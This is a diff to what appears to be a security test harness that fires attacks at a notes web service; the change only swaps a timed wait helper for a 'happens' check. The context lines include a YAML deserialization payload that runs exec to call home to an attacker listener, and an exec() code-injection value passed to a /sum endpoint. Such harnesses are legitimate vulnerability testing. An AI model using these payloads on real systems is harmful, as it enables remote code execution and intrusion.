@@ -217,7 +217,7 @@ class FastapiNotes(stage.Service):
         with self.listener() as attacker:
             self.load_yaml("x: !!python/object/apply:exec\n- " + json.dumps(
                 stage.CALL_HOME.format(port=self.port("shell"))))
-            return stage.wait_for(lambda: b"got-42" in attacker.heard, 1)
+            return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("template injection")
     def template_runs_a_command(self):
@@ -274,7 +274,7 @@ class FastapiNotes(stage.Service):
         marker = self.marker("fork")
         code = stage.FORK_AND_EXEC.format(line=f"id > {marker}")
         self.browser().get("/sum", numbers=f"exec({code!r})")
-        return stage.wait_for(marker.exists, 1)
+        return self.happens(marker.exists)
 
     @stage.attack("symlink swap", fresh=True)
     def attachment_became_a_link(self):
